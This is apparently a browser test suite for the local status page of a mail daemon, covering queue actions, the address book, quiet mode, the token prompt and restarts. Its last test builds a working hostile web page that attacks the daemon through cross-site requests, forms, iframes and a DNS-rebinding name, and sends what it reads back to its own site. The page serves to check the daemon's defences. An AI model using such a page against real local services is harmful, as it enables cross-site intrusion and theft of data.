/**
 * The status page in a browser, as people use it.
 */
import { once } from 'node:events';
import { connect, createServer } from 'node:net';
import { hostname } from 'node:os';
import type { Page } from 'playwright-core';
import t, { type Test } from 'tap';
import { DEVICE, type FakeCloud, fakeCloud, KEY, problem } from '../support/cloud.js';
import { type DaemonProcess, startDaemon } from '../support/daemon.js';
import { HEADLINES, spoken } from '../support/headlines.js';
import { fakeRelay } from '../support/relay.js';
import { serve } from '../support/serve.js';
import {
  barriersOf,
  CHROMIUM,
  HARMFUL,
  isTooWide,
  keepPicture,
  LOOKS,
  open,
  openBrowser,
  type Seen,
} from './browser.js';
import { freePorts, skipWithout, startFieldpost } from './peers.js';

const options = { skip: skipWithout(CHROMIUM), timeout: 180_000 };
const BOOK = 'offline_notification_destinations';

const urlOf = ({ port }: DaemonProcess) => `http://127.0.0.1:${port}/`;

/** A relay that refuses mails to `bad@…` for good, puts off those to `later@…`, and takes the rest. */
async function startPicky(t: Test) {
  const relay = await fakeRelay({
    rcpt: ({ command }) =>
      command.includes('bad@')
        ? '550 5.1.1 No such user'
        : command.includes('later@')
          ? '450 4.2.1 Not now'
          : undefined,
  });
  t.teardown(() => relay.close());
  return relay;
}

/** A daemon with this relay, which tries again after a minute at the earliest. */
async function startWith(t: Test, env: Readonly<Record<string, string>> = {}) {
  const relay = await startPicky(t);
  const pause = { FIELDPOST_BACKOFF_MIN: '60s', FIELDPOST_BACKOFF_MAX: '60s' };
  return startFieldpost(t, { FIELDPOST_RELAY: relay.url, ...pause, ...env });
}

/** Nothing that must not be has been. */
function assertQuiet(t: Test, { complaints, strays }: Seen): void {
  t.strictSame(complaints, [], 'the console is empty');
  t.strictSame(strays, [], 'no request leaves the origin');
}

/** The name of this device stands in the heading and the title. */
const NAME = hostname();
const section = (page: Page, name: string) => page.getByRole('region', { name, exact: true });
const messageOf = (page: Page, words: string | RegExp) =>
  section(page, 'Messages').getByRole('listitem').filter({ hasText: words });

t.test('every part is seen, at each width, dark and light, and nothing bars the way', options, async (t) => {
  const daemon = await startWith(t);
  await daemon.post(
    { destination: 'john@example.com', subject: HARMFUL, plain: 'x' },
    { destination: 'later@example.com', subject: 'Later', plain: 'x' },
    { destination: 'bad@example.com', subject: 'Bad', plain: 'x' },
  );
  await daemon.api(BOOK, {
    type: 1,
    destination: 'ann@example.com',
    lang: 'nl',
    name: HARMFUL,
  });
  await daemon.said(/ failed id=/);
  const browser = await openBrowser(t);
  for (const look of LOOKS) {
    const seen = await open(browser, urlOf(daemon), look);
    const { page } = seen;
    await page.getByText(/^1 waiting/i).waitFor();
    for (const name of [
      'Link and relay',
      'Queue',
      'Messages',
      'History',
      'Address book',
      'Programs, storage and clock',
      'Test mail',
    ]) {
      t.equal(await section(page, name).count(), 1, name);
    }
    await messageOf(page, 'Later').getByText('deferred').click();
    await messageOf(page, 'Later').getByText('450 4.2.1 Not now').waitFor();
    await messageOf(page, HARMFUL).waitFor();
    await section(page, 'Address book').getByText(HARMFUL).first().waitFor();
    t.strictSame(await barriersOf(page), []);
    t.notOk(await isTooWide(page), `${look.width} px`);
    await keepPicture(page, 'status', look);
    await section(page, 'Address book').getByRole('button', { name: 'Add somebody' }).click();
    t.strictSame(await barriersOf(page), []);
    await keepPicture(page, 'status-add', look);
    t.ok((await page.title()).startsWith(`! ${NAME}: 1 waiting`));
    await page.getByRole('heading', { name: NAME, level: 1 }).waitFor();
    assertQuiet(t, seen);
    await seen.context.close();
  }
});

/** So many pictures of the headline are kept. */
const PICTURES = /; 8 failed$|daily limit|messages are refused|no relay.*no route/;

t.test('the headline and the title, row by row', options, async (t) => {
  const daemon = await startWith(t);
  const seen = await open(await openBrowser(t), urlOf(daemon));
  const { page } = seen;
  await page.getByText(/all is well/i).waitFor();
  // The states of this test come by calls, not by the stream.
  await page.route('**/api/internal/events', (route) => route.fulfill({ status: 204 }));
  await page.reload();
  const known = (await daemon.api('state')).json;
  let shown = {};
  await page.route('**/api/internal/state', (route) => route.fulfill({ json: { ...known, ...shown } }));
  for (const [index, [state, mood, words]] of HEADLINES.entries()) {
    const said = spoken(words, '(?:\\d+ \\w{3} )?\\d\\d:\\d\\d');
    shown = { clock: { trusted: true }, destinations: undefined, settings: undefined, ...state };
    await page.evaluate("document.dispatchEvent(new Event('visibilitychange'))");
    await page.locator(`#headline.${mood}`).filter({ hasText: said }).waitFor();
    t.match(
      await page.title(),
      new RegExp(`^${mood === 'good' ? '' : '! '}${NAME}: ${said.source.slice(1)}`, 'i'),
    );
    if (PICTURES.test(words)) await keepPicture(page, `headline-${index}`, { width: 1280, scheme: 'light' });
  }
  t.strictSame(await barriersOf(page), []);
  assertQuiet(t, seen);
});

t.test('messages: filter, retry, cancel, hold, release, send all', options, async (t) => {
  const daemon = await startWith(t);
  await daemon.post(
    { destination: 'john@example.com', subject: 'Fine', plain: 'x' },
    { destination: 'later@example.com', subject: 'Later', plain: 'x' },
    { destination: 'bad@example.com', subject: 'Bad', plain: 'x' },
  );
  await daemon.said(/ failed id=/);
  const seen = await open(await openBrowser(t), urlOf(daemon));
  const { page } = seen;
  page.on('dialog', (dialog) => void dialog.accept());
  const messages = section(page, 'Messages');
  await messages.getByRole('listitem').first().getByText('failed').waitFor();
  await messages.getByRole('listitem').nth(1).getByText('deferred').waitFor();
  await messages.getByRole('button', { name: 'Failed 1', pressed: false }).click();
  await messageOf(page, 'Bad').waitFor();
  await messageOf(page, 'Fine').waitFor({ state: 'detached' });
  await messages.getByRole('button', { name: 'Failed 1', pressed: true }).waitFor();
  await messages.getByRole('button', { name: 'All' }).click();

  const later = messageOf(page, 'Later');
  // A person without a mouse: the summary opens by Enter, and keeps the focus when the message changes.
  await later.locator('summary').focus();
  await page.keyboard.press('Enter');
  await later.getByText('1 attempt', { exact: true }).waitFor();
  await later.getByRole('button', { name: 'Retry now' }).click();
  await later.getByText('2 attempts').waitFor();
  t.equal(await page.evaluate('document.activeElement.textContent'), 'Retry now', 'the focus stays');
  await later.getByRole('button', { name: 'Cancel it' }).click();
  await later.getByText('cancelled', { exact: true }).waitFor();
  await messageOf(page, 'Bad').locator('summary').click();
  await messageOf(page, 'Bad').getByRole('button', { name: 'Delete its content' }).click();
  await page.getByText(/^The content of \S+ is deleted\.$/).waitFor();

  await page.getByRole('button', { name: 'Hold delivery' }).click();
  await page
    .getByText(/nothing waits, and delivery is on hold/i)
    .first()
    .waitFor();
  await daemon.post({ destination: 'john@example.com', subject: 'Held', plain: 'x' });
  await messageOf(page, 'Held').getByText('queued').waitFor();
  await page.getByRole('button', { name: 'Release delivery' }).click();
  await messageOf(page, 'Held').getByText('sent', { exact: true }).waitFor();
  await daemon.post({ destination: 'later@example.com', subject: 'Again', plain: 'x' });
  await messageOf(page, 'Again').getByText('deferred').waitFor();
  await page.getByRole('button', { name: 'Send all now' }).click();
  await messageOf(page, 'Again').locator('summary').click();
  await messageOf(page, 'Again').getByText('2 attempts').waitFor();
  assertQuiet(t, seen);
});

t.test('messages: few at first, and more on request', options, async (t) => {
  const daemon = await startWith(t);
  const mails = Array.from({ length: 45 }, (_, index) => ({
    destination: 'a@example.com',
    subject: `Mail ${index}.`,
    plain: 'x',
  }));
  await daemon.post(...mails);
  const { page } = await open(await openBrowser(t), urlOf(daemon));
  const rows = section(page, 'Messages').getByRole('listitem');
  const more = page.getByRole('button', { name: 'Show more' });
  await messageOf(page, 'Mail 44.').waitFor();
  t.equal(await rows.count(), 5, 'few at first');
  await more.click();
  await messageOf(page, 'Mail 25.').waitFor();
  await more.click();
  await messageOf(page, 'Mail 5.').waitFor();
  t.equal(await rows.count(), 40);
  await more.click();
  await messageOf(page, 'Mail 0.').waitFor();
  t.equal(await more.count(), 0);
});

t.test('quiet and drill, as a technician with a phone does them', options, async (t) => {
  await using cloud = await fakeCloud();
  const place = { FIELDPOST_CLOUD: cloud.url, FIELDPOST_DEVICE_ID: DEVICE, FIELDPOST_CLOUD_KEY: KEY };
  const daemon = await startWith(t, place);
  await daemon.said(/link online/);
  // The clock of the cloud behind the script stands still, and so does what waits for its disk.
  const heard: FakeCloud['answer'] = ({ path }) =>
    path === 'heartbeat' ? { status: 200, body: {} } : undefined;
  cloud.answer = heard;
  const browser = await openBrowser(t);
  for (const look of LOOKS) {
    const seen = await open(browser, urlOf(daemon), look);
    const { page } = seen;
    page.on('dialog', (dialog) => void dialog.accept());
    await page.getByRole('button', { name: 'Quiet', exact: true }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByLabel('For').selectOption('2 hours');
    await dialog.getByLabel('Reason').fill('battery swap');
    t.strictSame(await barriersOf(page), []);
    await keepPicture(page, 'status-be-quiet', look);
    await dialog.getByRole('button', { name: 'Ask for quiet' }).click();
    await dialog.waitFor({ state: 'hidden' });
    const part = section(page, 'Quiet');
    await part.getByText(/^until .*\d\d:\d\d: battery swap \(begun by uid 0\)$/).waitFor();
    await page.getByText(/^quiet until .*: battery swap; all is well/i).waitFor();
    await page.getByText(/^Quiet until \d\d:\d\d\. The cloud knows it\.$/).waitFor();
    const { body } = cloud.calls.filter(({ path }) => path === 'heartbeat').at(-1) ?? {};
    t.match(body, { why: 'battery swap' });
    t.ok(body.quietMs > 7_190_000 && body.quietMs <= 7_200_000, 'two hours');
    t.strictSame(await barriersOf(page), []);
    t.notOk(await isTooWide(page), `${look.width} px`);
    await keepPicture(page, 'status-quiet', look);
    await part.getByRole('button', { name: 'End the quiet' }).click();
    await part.waitFor({ state: 'hidden' });
    await page.getByText('The quiet is over.').waitFor();
    cloud.answer = (call) => (call.path === 'drill' ? { status: 202, body: { people: 3 } } : heard(call));
    await section(page, 'Address book').getByRole('button', { name: 'Drill' }).click();
    await page.getByText('People that the cloud tells now: 3.').waitFor();
    cloud.answer = (call) => heard(call) ?? problem(404, 'Nothing here');
    await section(page, 'Address book').getByRole('button', { name: 'Drill' }).click();
    await page.getByText('This cloud has no drill').waitFor();
    cloud.answer = heard;
    assertQuiet(t, { ...seen, complaints: seen.complaints.filter((one) => !/status of 501/.test(one)) });
    await seen.context.close();
  }
});

t.test('quiet: what the cloud does not know yet, and what the daemon refuses', options, async (t) => {
  await using cloud = await fakeCloud();
  const place = { FIELDPOST_CLOUD: cloud.url, FIELDPOST_DEVICE_ID: DEVICE, FIELDPOST_CLOUD_KEY: KEY };
  const daemon = await startWith(t, place);
  await daemon.said(/link online/);
  const { page } = await open(await openBrowser(t), urlOf(daemon));
  cloud.answer = () => problem(503, 'not now');
  await page.getByRole('button', { name: 'Quiet', exact: true }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByLabel('Reason').fill('a\u0085b');
  await dialog.getByRole('button', { name: 'Ask for quiet' }).click();
  await dialog.getByRole('alert').filter({ hasText: 'The reason must be one line' }).waitFor();
  await dialog.getByLabel('Reason').fill('');
  await dialog.getByRole('button', { name: 'Ask for quiet' }).click();
  await page.getByText(/The cloud does not know it yet: .*not now.* as soon as the link is back/).waitFor();
  await section(page, 'Quiet')
    .getByText(/people may still be told/)
    .waitFor();
  const alone = await startWith(t);
  await page.goto(urlOf(alone));
  await page.getByText(/all is well/i).waitFor();
  for (const name of ['Quiet', 'Drill'])
    t.equal(await page.getByRole('button', { name, exact: true }).count(), 0, `${name} without a cloud`);
});

t.test('address book: the words of the daemon stand at each field', options, async (t) => {
  const daemon = await startWith(t);
  const seen = await open(await openBrowser(t), urlOf(daemon));
  const { page, complaints } = seen;
  page.on('dialog', (dialog) => void dialog.accept());
  const book = section(page, 'Address book');
  await book.getByText('Nobody yet.').waitFor();
  await book.getByRole('button', { name: 'Add somebody' }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByLabel('Name').fill('Ann');
  await dialog.getByLabel('Address or number').fill('not an address');
  await dialog.getByRole('button', { name: 'Save' }).click();
  const field = dialog.getByLabel('Address or number');
  await page.locator(':focus[aria-invalid=true]').waitFor();
  const described = await field.getAttribute('aria-describedby');
  t.match(await page.locator(`#${described}`).textContent(), /email address/);
  t.strictSame(await barriersOf(page), []);
  // The browser tells of the 422 itself.
  t.match(complaints.splice(0), [/422/]);
  await field.fill('ann@example.com');
  await page.keyboard.press('Enter');
  await book.getByText('Ann: ann@example.com').waitFor();
  await book.getByRole('button', { name: 'Add somebody' }).click();
  await dialog.getByLabel('Name').fill('Another');
  await dialog.getByLabel('Address or number').fill('ann@example.com');
  await dialog.getByRole('button', { name: 'Save' }).click();
  await dialog.getByRole('alert').filter({ hasText: /1/ }).waitFor();
  t.match(complaints.splice(0), [/409/]);
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'hidden' });

  await book.getByRole('button', { name: 'Change Ann' }).click();
  await dialog.getByLabel('How to tell').selectOption('SMS');
  await dialog.getByLabel('Address or number').fill('+32470123456');
  // Somebody else is faster.
  await daemon.api(
    `${BOOK}/1`,
    {
      type: 1,
      destination: 'ann@example.org',
      lang: 'nl',
      name: 'Ann',
    },
    'PUT',
  );
  await dialog.getByRole('button', { name: 'Save' }).click();
  await dialog
    .getByRole('alert')
    .filter({ hasText: /changed/ })
    .waitFor();
  t.match(complaints.splice(0), [/412/]);
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await book.getByText('Ann: ann@example.org').waitFor();
  await book.getByRole('button', { name: 'Change Ann' }).click();
  await dialog.getByLabel('Language').selectOption('pl');
  await dialog.getByRole('button', { name: 'Save' }).click();
  await book.getByText('Email, pl').waitFor();
  await book.getByRole('button', { name: 'Remove Ann' }).click();
  await book.getByText('Nobody yet.').waitFor();
  assertQuiet(t, seen);
});

t.test('address book: when a person is told', options, async (t) => {
  const daemon = await startWith(t);
  const browser = await openBrowser(t);
  for (const look of LOOKS) {
    const seen = await open(browser, urlOf(daemon), look);
    const { page, complaints } = seen;
    page.on('dialog', (dialog) => void dialog.accept());
    const book = section(page, 'Address book');
    await book.getByRole('button', { name: 'Add somebody' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByLabel('Name').fill('Ann');
    await dialog.getByLabel('Address or number').fill('ann@example.com');
    const hours = dialog.getByLabel('Only at these hours');
    t.notOk(await hours.isVisible(), 'folded away');
    await dialog.getByText('When', { exact: true }).click();
    await dialog.getByLabel('Only after so many minutes').fill('an hour');
    await hours.fill('noon');
    await dialog.getByText('When', { exact: true }).click();
    await dialog.getByRole('button', { name: 'Save' }).click();
    await page.locator(':focus[aria-invalid=true]').waitFor();
    t.ok(await hours.isVisible(), 'a fault unfolds them');
    for (const words of [/such as 60/, /"Mo-Fr 07:00-18:00, Sa 09:00-12:00"/]) {
      await dialog.getByText(words).waitFor();
    }
    t.match(complaints.splice(0), [/422/]);
    t.strictSame(await barriersOf(page), []);
    t.notOk(await isTooWide(page), `${look.width} px`);
    await keepPicture(page, 'status-when', look);
    await dialog.getByLabel('Only after so many minutes').fill('60');
    await hours.fill('Mo-Fr 07:00-18:00');
    await dialog.getByLabel('Time zone').fill('Europe/Amsterdam');
    await dialog.getByLabel('A report each Monday').selectOption('Yes');
    await dialog.getByRole('button', { name: 'Save' }).click();
    const plan = 'told after 60 minutes of being offline, Monday to Friday 07:00-18:00 (Europe/Amsterdam)';
    await book.getByText(`Email, en; ${plan}; a report each Monday at 07:00`).waitFor();
    await page.getByText(`Ann is in the address book, and ${plan}`).waitFor();
    t.notOk(await isTooWide(page), `${look.width} px`);
    await keepPicture(page, 'status-plan', look);

    await book.getByRole('button', { name: 'Change Ann' }).click();
    await dialog.getByText(plan).waitFor();
    t.equal(await hours.inputValue(), 'Mo-Fr 07:00-18:00', 'unfolded, for there are some');
    await hours.fill('');
    await dialog.getByLabel('A report each Monday').selectOption('No');
    await dialog.getByRole('button', { name: 'Save' }).click();
    await book.getByText('Email, en; told after 60 minutes of being offline', { exact: true }).waitFor();
    const [{ id, ...left }] = (await daemon.api(BOOK)).json;
    t.match(left, { after_min: 60, zone: 'Europe/Amsterdam' });
    t.notOk('hours' in left || 'weekly' in left);
    await book.getByRole('button', { name: 'Remove Ann' }).click();
    await book.getByText('Nobody yet.').waitFor();
    assertQuiet(t, seen);
    await seen.context.close();
  }
});

t.test('a test mail is followed to its end', options, async (t) => {
  const daemon = await startWith(t);
  const seen = await open(await openBrowser(t), urlOf(daemon));
  const { page } = seen;
  const trial = section(page, 'Test mail');
  for (const [to, words] of [
    ['john@example.com', /: sent/],
    ['bad@example.com', /: failed: 550 5\.1\.1 No such user/],
  ] as const) {
    await trial.getByLabel('Send a test mail to').fill(to);
    await trial.getByRole('button', { name: 'Send' }).click();
    await trial.getByText(words).waitFor();
    await trial.getByText(/accepted as/).waitFor();
  }
  assertQuiet(t, seen);
});

t.test('a test mail says what it waits for', options, async (t) => {
  const daemon = await startWith(t);
  const seen = await open(await openBrowser(t), urlOf(daemon));
  const { page } = seen;
  await page.getByRole('button', { name: 'Hold delivery' }).click();
  await page.getByText('Delivery is on hold, also after a restart.').waitFor();
  const trial = section(page, 'Test mail');
  await trial.getByLabel('Send a test mail to').fill('john@example.com');
  await trial.getByRole('button', { name: 'Send' }).click();
  await trial.getByText(/: queued; waits: delivery is on hold$/).waitFor();
  await page.getByRole('button', { name: 'Release delivery' }).click();
  await trial.getByText(/: sent: 250/).waitFor();
  await page.getByText(/last mail sent \d+ s ago/).waitFor();
  assertQuiet(t, seen);
});

t.test('the relay is tried step by step', options, async (t) => {
  const daemon = await startWith(t);
  const seen = await open(await openBrowser(t), urlOf(daemon));
  const { page } = seen;
  const part = section(page, 'Link and relay');
  await part.getByRole('button', { name: 'Try the relay' }).click();
  await part.getByText('good: mails can go').waitFor();
  await part.getByText(/^open to 127\.0\.0\.1/).waitFor();
  t.strictSame(await barriersOf(page), []);
  await page.route('**/relay/trial', (route) => {
    const fault = { step: 'login', words: 'refused: 535 no', blame: 'login', hint: 'see the user' };
    return route.fulfill({ json: { relays: [{ relay: 'smtp://x', steps: [], fault }] } });
  });
  await page.keyboard.press('Enter');
  await part.getByText('refused: 535 no').waitFor();
  await part.getByText('see the user').waitFor();
  assertQuiet(t, seen);
});

/** Rows of the history: an outage, and a time that is not known. */
function historyOf(step: '10m' | '1h') {
  const stepMs = step === '10m' ? 600_000 : 3_600_000;
  const endMs = Math.floor(Date.now() / stepMs) * stepMs;
  const rows = Array.from({ length: step === '10m' ? 288 : 720 }, (_, index) => {
    const isOut = index > 160 && index < 220;
    return {
      at: new Date(endMs - ((step === '10m' ? 287 : 719) - index) * stepMs).toISOString(),
      ...{ accepted: index % 5, sent: isOut ? 0 : index % 5, failed: index % 50 === 0 ? 1 : 0 },
      ...{ waitingMax: isOut ? index - 160 : 0, oldestWaitMs: 0, relayUp: isOut ? 0 : 1, linkUp: null },
    };
  });
  return { step, rows: rows.filter((_, index) => index < 100 || index > 120) };
}

t.test(
  'the history: drawn, told, and for a longer time; without one there is no such part',
  options,
  async (t) => {
    const daemon = await startWith(t);
    const browser = await openBrowser(t);
    for (const look of LOOKS) {
      const seen = await open(browser, 'about:blank', look);
      const { page } = seen;
      await page.route('**/api/internal/history?*', (route) =>
        route.fulfill({ json: historyOf(route.request().url().includes('1h') ? '1h' : '10m') }),
      );
      await page.goto(urlOf(daemon));
      const part = section(page, 'History');
      await part
        .getByRole('img', { name: /^In 48 hours: \d+ messages accepted, .*the relay was there/ })
        .waitFor();
      t.strictSame(await barriersOf(page), []);
      t.notOk(await isTooWide(page), `${look.width} px`);
      await keepPicture(page, 'status-history', look);
      await part.getByRole('button', { name: '30 days', pressed: false }).click();
      await part.getByRole('img', { name: /^In 30 days:/ }).waitFor();
      await part.getByRole('button', { name: '30 days', pressed: true }).waitFor();
      t.strictSame(seen.complaints, []);
      await seen.context.close();
    }
    const { page } = await open(browser, 'about:blank');
    await page.route('**/api/internal/history?*', (route) => route.fulfill({ status: 404, json: {} }));
    await page.goto(urlOf(daemon));
    await page.getByText(/all is well/i).waitFor();
    t.equal(await section(page, 'History').count(), 0);
  },
);

t.test('news come by the stream of events; without one the page asks', options, async (t) => {
  const daemon = await startWith(t);
  const browser = await openBrowser(t);
  for (const isThere of [true, false]) {
    const { page } = await open(browser, 'about:blank');
    if (!isThere)
      await page.route('**/api/internal/events', (route) => route.fulfill({ status: 404, json: {} }));
    const streamed = page.waitForResponse(/\/events$/);
    await page.goto(urlOf(daemon));
    await page.getByText(/all is well/i).waitFor();
    t.equal((await streamed).status(), isThere ? 200 : 404);
    let asked = 0;
    page.on('request', (request) => {
      if (request.url().includes('/state')) asked++;
    });
    const subject = `News ${isThere}`;
    await daemon.post({ destination: 'john@example.com', subject, plain: 'x' });
    await messageOf(page, subject).getByText('sent', { exact: true }).waitFor();
    await page.waitForTimeout(5000);
    if (isThere) t.ok(asked <= 2, `asked ${asked} times`);
    else t.ok(asked >= 2, `asked ${asked} times`);
  }
});

t.test(
  'with a token: asked at once, kept for the session of the browser, and forgotten on request',
  options,
  async (t) => {
    const token = 'a-token-that-nobody-guesses';
    const daemon = await startWith(t, { FIELDPOST_API_TOKEN: token });
    const seen = await open(await openBrowser(t), urlOf(daemon));
    const { page, context, complaints } = seen;
    const dialog = page.getByRole('dialog', { name: 'This daemon asks for a token' });
    await dialog.waitFor();
    assertQuiet(t, seen);
    t.strictSame(await barriersOf(page), []);
    await page.keyboard.press('Escape');
    t.ok(await dialog.isVisible(), 'without a token there is nothing to see');
    await dialog.getByLabel('Token').fill('another');
    await dialog.getByRole('button').click();
    await dialog.getByText('This token is not the right one.').waitFor();
    t.match(complaints.splice(0), [/401/]);
    await dialog.getByLabel('Token').fill(token);
    await page.keyboard.press('Enter');
    await page.getByText(/all is well/i).waitFor();
    await page.getByRole('button', { name: 'Hold delivery' }).click();
    await page.getByText('Delivery is on hold, also after a restart.').waitFor();
    const kept = 'JSON.stringify([localStorage, document.cookie, location.href])';
    t.notMatch(await page.evaluate(kept), token);
    t.strictSame(await context.cookies(), []);
    await page.reload();
    await page
      .getByText(/delivery is on hold/i)
      .first()
      .waitFor();
    t.notOk(await dialog.isVisible());
    const other = await context.newPage();
    await other.goto(urlOf(daemon));
    await other.getByRole('dialog', { name: 'This daemon asks for a token' }).waitFor();
    await page.getByRole('button', { name: 'Forget the token' }).click();
    await dialog.waitFor();
    t.equal(await page.evaluate('sessionStorage.length'), 0);
    assertQuiet(t, seen);
  },
);

t.test('through a tunnel: another port and the name localhost', options, async (t) => {
  const daemon = await startWith(t);
  const tunnel = createServer((near) => {
    const far = connect(daemon.port, '127.0.0.1');
    for (const end of [near, far]) end.on('error', () => [near, far].map((one) => one.destroy()));
    near.pipe(far).pipe(near);
  }).listen(0, '127.0.0.1');
  await once(tunnel, 'listening');
  t.teardown(() => tunnel.close());
  const { port } = tunnel.address() as { port: number };
  const seen = await open(await openBrowser(t), `http://localhost:${port}/`);
  await seen.page.getByText(/all is well/i).waitFor();
  await seen.page.getByRole('button', { name: 'Hold delivery' }).click();
  await seen.page.getByText('Delivery is on hold, also after a restart.').waitFor();
  assertQuiet(t, seen);
});

t.test('the daemon is gone, and comes back', options, async (t) => {
  const [port = 0] = await freePorts(1);
  const relay = await startPicky(t);
  const env = {
    FIELDPOST_STATE_DIR: t.testdir(),
    FIELDPOST_RELAY: relay.url,
    FIELDPOST_LISTEN: `127.0.0.1:${port}`,
  };
  const first = await startDaemon(env);
  t.teardown(() => first.end('SIGKILL'));
  const { page, strays } = await open(await openBrowser(t), urlOf(first));
  await page.getByText(/all is well/i).waitFor();
  await first.end('SIGKILL');
  const alert = page.getByRole('alert').filter({ hasText: /^the daemon does not answer, since \d\d:\d\d/ });
  await alert.waitFor();
  await page.getByRole('button', { name: 'Hold delivery' }).click();
  await page.getByText('the daemon does not answer: nothing is done.').waitFor();
  const second = await startDaemon(env);
  t.teardown(() => second.end('SIGTERM'));
  await alert.waitFor({ state: 'hidden' });
  await page.getByRole('button', { name: 'Hold delivery' }).click();
  await page.getByText('Delivery is on hold, also after a restart.').waitFor();
  t.strictSame(strays, []);
});

t.test('a page that nobody sees asks nothing', options, async (t) => {
  const daemon = await startWith(t);
  const { page } = await open(await openBrowser(t), 'about:blank');
  await page.clock.install();
  let asked = 0;
  page.on('request', (request) => {
    if (request.url().endsWith('/state')) asked++;
  });
  await page.goto(urlOf(daemon));
  await page.getByText(/all is well/i).waitFor();
  const turn = (hidden: boolean) =>
    page.evaluate(
      `Object.defineProperty(document, 'hidden', { value: ${hidden}, configurable: true });
       document.dispatchEvent(new Event('visibilitychange'))`,
    );
  await turn(true);
  const before = asked;
  await page.clock.runFor(60_000);
  t.equal(asked, before);
  const answered = page.waitForResponse(/\/state$/);
  await turn(false);
  await answered;
  t.equal(asked, before + 1, 'it asks at once when somebody looks');
});

t.test('the timeline tells each state by the arrow keys', options, async (t) => {
  const daemon = await startDaemon({ FIELDPOST_STATE_DIR: t.testdir() }, ['dev']);
  t.teardown(() => daemon.end('SIGTERM'));
  const seen = await open(await openBrowser(t), urlOf(daemon));
  const bars = seen.page.getByRole('group', { name: /States of the cloud link/ }).getByRole('img');
  await bars.nth(1).focus();
  await seen.page.getByText(/^online since .*, so far/).waitFor();
  await seen.page.keyboard.press('ArrowLeft');
  await seen.page.getByText(/^connecting since .*, \d+ s/).waitFor();
  assertQuiet(t, seen);
});

t.test('a page from elsewhere gets nowhere', options, async (t) => {
  const daemon = await startWith(t);
  const target = urlOf(daemon).slice(0, -1);
  // A name that the attacker's DNS would turn to this device.
  const rebound = target.replace('127.0.0.1', 'rebound.localhost');
  const got: string[] = [];
  await using site = await serve((req, res) => {
    if (req.method === 'POST') got.push(String(req.url));
    res.setHeader('Content-Type', 'text/html').end(hostile([target, rebound]));
  });
  const { page } = await open(await openBrowser(t), `${site.url}/`);
  await page.getByText('tried all', { exact: true }).waitFor();
  t.strictSame(got, [], 'it has read nothing');
  for (const frame of page.frames().slice(1)) {
    t.notMatch(await frame.content(), /Link and relay/, 'the status page is in no frame');
  }
  const opened = page.context().pages().slice(1);
  for (const one of opened) t.notMatch(await one.content(), /tried all/);
  const { json } = await daemon.api('messages');
  t.strictSame(json, { messages: [], next: null }, 'no message is queued');
  t.equal((await daemon.state()).queue.held, false);
  // The same browser, on the page itself: all is well.
  const own = await open(page.context().browser() as never, urlOf(daemon));
  await own.page.getByText(/all is well/i).waitFor();
});

/** A page that tries to read and to change the daemons at these addresses. It posts what it gets to its own site. */
function hostile(targets: readonly string[]): string {
  return `<!doctype html><title>x</title><script type="module">
    const took = (what) => fetch('/took', { method: 'POST', body: what });
    const mail = JSON.stringify([{ type: 1, destination: 'john@example.com', subject: 'From elsewhere', plain: 'x' }]);
    for (const target of ${JSON.stringify(targets)}) {
      for (const [path, init] of [
        ['/', {}], ['/api/internal/state', {}], ['/api/internal/messages', {}],
        ['/api/internal/messages', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: mail }],
        ['/api/internal/queue/hold', { method: 'POST' }],
      ]) {
        await fetch(target + path, init).then((answer) => answer.text()).then(took, () => {});
        await fetch(target + path, { ...init, headers: {}, mode: 'no-cors' }).then((answer) => answer.text()).then((text) => text && took(text), () => {});
      }
      for (const [enctype, name, value] of [['text/plain', mail, ''], ['multipart/form-data', 'destination', 'john@example.com']]) {
        const frame = document.createElement('iframe');
        frame.name = 'f' + Math.random();
        document.body.append(frame);
        const form = document.body.appendChild(document.createElement('form'));
        Object.assign(form, { method: 'post', enctype, target: frame.name, action: target + '/api/internal/messages' });
        const input = form.appendChild(document.createElement('input'));
        Object.assign(input, { name, value });
        const done = new Promise((resolve) => frame.addEventListener('load', resolve));
        form.submit();
        await done;
      }
      const frame = document.createElement('iframe');
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
      frame.src = target + '/';
      document.body.append(frame);
      await loaded;
      try { if (frame.contentDocument.body.textContent) took(frame.contentDocument.body.textContent); } catch {}
      await new Promise((resolve) => {
        const script = document.body.appendChild(document.createElement('script'));
        script.onload = script.onerror = resolve;
        script.src = target + '/api/internal/state';
      });
    }
    document.body.append(Object.assign(document.createElement('p'), { textContent: 'tried all' }));
  </script>`;
}
